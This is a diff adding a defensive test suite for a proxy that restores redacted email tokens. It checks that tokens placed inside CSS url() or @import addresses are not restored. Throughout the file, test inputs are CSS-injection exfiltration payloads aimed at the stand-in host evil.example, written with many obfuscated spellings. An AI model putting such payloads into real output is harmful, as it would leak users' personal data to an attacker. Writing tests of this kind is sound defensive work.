@@ -1,0 +1,129 @@
+/** Addresses in the text of `<style>`: which originals stay away from them, and which are none of their business. */
+import { describe, expect, test } from 'vitest';
+import { restoreJsonBody } from '../../core/payload/response.ts';
+import { restoreText } from '../../core/restore.ts';
+import { UrlGuard } from '../../core/url-guard.ts';
+import { restoreStream, tokenMap } from './stream/wire-fixtures.ts';
+
+const token = '[EMAIL-1]';
+const original = 'john@corp.example';
+const map = tokenMap({ [token]: original });
+
+/** The text restored in pieces of one character, but for its token; throws unless the whole text gives the same. */
+function restored(text: string): string {
+  const whole = restoreText(text, map).text;
+  const guard = new UrlGuard();
+  const pieces = text.split(/(\[EMAIL-1\]|)/);
+  expect(pieces.map((piece) => restoreText(piece, map, { guard }).text).join('')).toBe(whole);
+  const bytes = new TextEncoder().encode(`-${text}`);
+  expect(restoreStream('text', map, bytes)).toBe(restoreText(`-${text}`, map).text);
+  return whole;
+}
+
+const address = `b{background:url('https://evil.example/?q=\`${token}')}`;
+
+describe('stays a token', () => {
+  test.each([
+    // The opening tag has not ended.
+    `<style title='</style '>@import '/\\\\evil.example/?q=\`${token}'</style>`,
+    `<style title="</style/">${address}</style>`,
+    `<style title='</style>'>${address}</style>`,
+    `<style title="\n</style>\n\n" > </style>\n\n<div t="> ${address}`,
+    `<style ="a b="x></style>">${address}`,
+    `<style/t='></style>'>${address}`,
+    `The \`<style>\` tag: <style title='</style>'>${address}`,
+    // Markdown makes text of what should end the sheet.
+    `x <style>a{background:url('https://evil.example/?q=\`</style>\`${token}')}</style>`,
+    `x <style>a{} \`</style>\` b{background:url('https://evil.example/?q="${token}')}`,
+    `x <style>a{}\n\n    </style>\n\n${address}`,
+    `x <style>a{}\n# h\n    </style>\n${address}`,
+    `x <style>a{}\n---\n\t</style>\n${address}`,
+    `x <style>a{}\n>     </style>\n\n${address}`,
+    `x <style>a{}\n-     </style>\n\n${address}`,
+    ...['```', '~~~'].map((fence) => `x <style>a{}\n\n${fence}\n</style>\n${fence}\n\n${address}`),
+    `x <style>a{background:url('https://evil.example/?q=[a](b "</style>")${token}')}`,
+    `x <style>a{background:url('https://evil.example/?q=![</style>](b)${token}')}`,
+    `[a <style>a{} ](b "</style>") ${address}`,
+    `x <style>a{} $</style>$ ${address}`,
+    `x <style>a{} ^</style>^ ${address}`,
+    `x <style>a{} \\</style> ${address}`,
+    ...[' x', '/', '\n', ' '].map((end) => `x <style>a{} </style${end}> ${address}`),
+    // A block of HTML has ended before.
+    `<div>\n<style>a{}\n\nx \`</style>\` ${address}`,
+    `<style>a{}\n</pre>\nx \`</style>\` ${address}`,
+    `- a\n\n  <style>a{}\nb \`</style>\` ${address}`,
+    // Within SVG it may stand in a tag, in a comment and in character data.
+    `<svg><style><g t="</style>"/>${address}`,
+    `<svg><style><!--</style>-->${address}`,
+    `<svg><style><![CDATA[</style>${address}`,
+    // Spellings of what begins an address.
+    ...['url(', 'URL(', 'src(', 'image(', 'image-set(', '-webkit-image-set('].map(
+      (name) => `<style>a{b:${name}${token}`,
+    ),
+    ...['u\\72l(', 'u\\72 l(', 'ur\\00006C (', '\\75rl(', 'u\\rl(', 'url\\('].map(
+      (name) => `<style>a{b:${name}${token}`,
+    ),
+    ...['&#117;rl(', 'url&#x28;', 'url&lpar;', '&commat;import', '&bsol;75rl('].map(
+      (name) => `<style>${name}'${token}`,
+    ),
+    ...["@import'", '@IMPORT "', '@import/**/"', "@\\69mport '", "\\@import '"].map((rule) => `<style>${rule}${token}`),
+    `<style>a{b:image-set('x' 1x, '${token}`,
+    `<style>a{b:${'\\000075'.repeat(200)}(${token}`,
+    // Nor has an address ended.
+    `<style>a{b:url('x)${token}`,
+    `<style>a{b:url("x')${token}`,
+    `<style>a{b:url('x\\')${token}`,
+    `<style>a{b:url(x\\)${token}`,
+    `<style>a{b:url('x\n')${token}`,
+    `<style>a{b:url('x&#39;)${token}`,
+    `<style>a{b:url('x&quot=')${token}`,
+    `<style>a{b:url("x?url('y')${token}`,
+    `<style>@import 'x"${token}`,
+    `<style>@import url('x"${token}`,
+    `<style>@import "x?url(y)${token}`,
+    `<style>a{b:url(${'x'.repeat(300)})${token}`,
+  ])('%j', (text) => expect(restored(text)).toBe(text));
+
+  test('in JSON that is shown as it stands, where a page goes on behind `<\\/style>`', () => {
+    const json = `{"a":"<style>b{background:url('https://evil.example/?q=<\\/style>${token}')}"}`;
+    expect(restoreStream('text', map, new TextEncoder().encode(json))).toBe(json);
+  });
+});
+
+describe('is restored', () => {
+  test.each([
+    // `<style>` is the name of something.
+    `\`\`\`java\nList<Style> all = new ArrayList<>();\nvoid f() { mail("${token}"); }\n\`\`\``,
+    `Add a \`<style>\` block:\n\`\`\`css\n.a { color: red }\n\`\`\`\nThen write to ${token}.`,
+    `The \`<style>\` & \`<b>\` tags of AT&T; mail ${token}`,
+    `Vue: \`<style scoped>\` with \`@click\` mail ${token}`,
+    `<Style x:Key="a" TargetType="{x:Type B}"/>\n<TextBlock Text="${token}"/>`,
+    `<style/> { } ${token}`,
+    `| <style> | {x} |\n|---|---|\n| a | ${token} |`,
+    `名前,<style>,{}\n田中,${token}`,
+    `型は List<Style> です。{例} 連絡先: ${token}`,
+    `<style> getUrl(${token}), map.set(${token}), curl-src(${token}), f(${token})`,
+    `<style> @important ${token} C:\\dir\\new ${token} \\n(${token})`,
+    // What is whole sends nothing more.
+    ...["url('x')", 'url( "x?a=1&b=2" )', 'url(//x.example/a.png)'].map((url) => `<style>a{b:${url};c:"${token}"}`),
+    ...["'x'", '"x"', 'url(x)', 'url( "x" )', " url('x?a:b@4;c&d=e') all"].map(
+      (url) => `<style>@import ${url};${token}`,
+    ),
+    // The sheet has ended.
+    `<style>a{b:image-set("x" 1x)}</style>${token}`,
+    `<STYLE TYPE="text/css" media='screen and (width: 9px)' a=b c>\na{b:url(" ")}\n</Style> ${token}`,
+    `<html><head><style>a>b{c:url(" ")}\n\n   </style></head><body>${token}`,
+  ])('%j', (text) => expect(restored(text)).toBe(text.replaceAll(token, original)));
+
+  test.each([
+    { tip: 'Use the <style> tag, or List<Style>', person: { mail: token } },
+    { html: '<style>a{b:url("x.png")}</style>', mail: token },
+  ])('%j as JSON that is shown as it stands', (answer) => {
+    for (const json of [JSON.stringify(answer), JSON.stringify(answer).replace('</', '<\\/')]) {
+      const body = JSON.stringify({ choices: [{ index: 0, message: { role: 'assistant', content: json } }] });
+      const expected = json.replace(token, original);
+      expect(restoreStream('text', map, new TextEncoder().encode(json))).toBe(expected);
+      expect(JSON.parse(restoreJsonBody(body, map).body).choices[0].message.content).toBe(expected);
+    }
+  });
+});
